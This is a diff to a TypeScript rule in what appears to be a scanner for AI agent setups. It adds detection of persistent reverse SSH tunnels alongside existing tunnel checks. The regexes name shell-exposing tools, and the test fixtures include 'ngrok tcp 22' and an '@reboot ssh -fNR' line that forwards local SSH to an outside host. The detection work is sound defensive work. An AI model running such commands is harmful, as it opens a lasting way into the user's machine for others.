@@ -1,7 +1,10 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
-import { isBareAddress, isFaceless } from '../../signals/hosts.ts'
+import { candidates } from '../../signals/candidates.ts'
+import { isBareAddress, isFaceless, isLocal, isOwnHost, isReserved } from '../../signals/hosts.ts'
 import { mentions } from '../../signals/mentions.ts'
+import { snippets } from '../../signals/snippets.ts'
+import { worded } from '../../wording.ts'
 
 /** Settings by which an agent gets tools from an address. */
 const AGENT_SERVER =
@@ -15,6 +18,18 @@ const OPENED =
 /** What is behind it when the command does not say. */
 const SHELL_BEHIND =
   /\b(?:ngrok|cloudflared|localtunnel|lt --port|npx localtunnel|bore local|serveo)\b[^]{0,300}\b(?:--dangerously|sshd|ttyd|gotty|jupyter[^\n]{0,80}(?:token=''|--no-password)|code-server[^\n]{0,40}--auth none|nc -l|socat|python3? -m http\.server[^\n]{0,20} -d (?:~|\/|\$home))/
+
+/** A way back into this machine, held open at the machine of somebody else. */
+const WAY_BACK = worded(
+  /\b(?:ssh|autossh)\b(?=[ \t])[^\n]{0,120}?\s-[a-z]{0,6}r\s{0,3}(?:[\w.*[\]]{1,40}:)?[\w${}()*]{1,24}:(?:localhost|127\.0\.0\.1|\[?::1\]?|[\w.-]{1,40}):[\w${}]{1,20}[^\n]{0,100}?\s(?:[\w.$\-{}]{1,40}@)?((?:[\w-]{1,40}\.){1,4}[a-z]{2,24})\b/g,
+)
+
+/** What a machine is run by. */
+const DOORS = /:(?:22|3389|5900|5901|445|2375|2376|6443|8006)\b|\bsshd?\b[^\n]{0,10}$/
+
+/** It comes back whenever it breaks, and without a terminal. */
+const STANDING =
+  /\bautossh\b|\bcron(?:tab)?\b|(?:^|\n)\s{0,8}(?:[*\d/,-]{1,6}\s){4}|@reboot|\bsystemd\b|\bexecstart|\brestart=|\bnohup\b|\s-[a-z]{0,4}f[a-z]{0,4}\b|\blaunchd\b|\bschtasks\b|\bwhile (?:true|:)|\brc\.local\b|stricthostkeychecking=no/
 
 const AROUND = 500
 
@@ -30,14 +45,16 @@ export default defineRule({
     'The agent takes its tools from an address behind a tunnel or a bare number, or a tunnel lets strangers reach a shell on this machine. Nobody answers for the other end.',
   remediation: 'Use a server with a name that belongs to somebody, over https, and sign in to it.',
   harmlessIf: 'the user opens the tunnel for a demonstration of their own and closes it afterwards',
-  needs: [['dropHost', 'tunnel', 'url']],
+  needs: [],
   examples: {
     fires: [
       '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
       '```bash\nclaude mcp add helper https://a1b2c3.ngrok-free.app/mcp\n```\n',
       '```bash\nngrok tcp 22\n```\n',
+      '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
+      '```bash\nssh -R 8080:localhost:3000 me@dev.example.com\n```\n',
       '```bash\nngrok http 3000\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "https://mcp.example.com/sse" } } }\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "http://localhost:4000/sse" } } }\n```\n',
@@ -46,6 +63,17 @@ export default defineRule({
   *match(document: Document): Iterable<Hit> {
     const { text, lines } = document.reading
     const known = document.observe(mentions)
+    for (const snippet of candidates(document, document.observe(snippets), WAY_BACK))
+      for (const found of text.slice(snippet.start, snippet.end).matchAll(WAY_BACK)) {
+        const address = `https://${found[1]!}`
+        if (isLocal(address) || isReserved(address) || isOwnHost(document, address)) continue
+        const start = snippet.start + found.index
+        const end = start + found[0].length
+        const around = text.slice(Math.max(0, start - 200), end + 100)
+        const standing = STANDING.test(around)
+        if (DOORS.test(found[0]) || standing)
+          yield { start, end, firm: true, ...(standing && { severity: 'crit' as const }) }
+      }
     if (AGENT_SERVER.test(text))
       for (const { start } of known.of('url')) {
         const address = ADDRESS.exec(text.slice(start, start + 320))?.[0] ?? ''
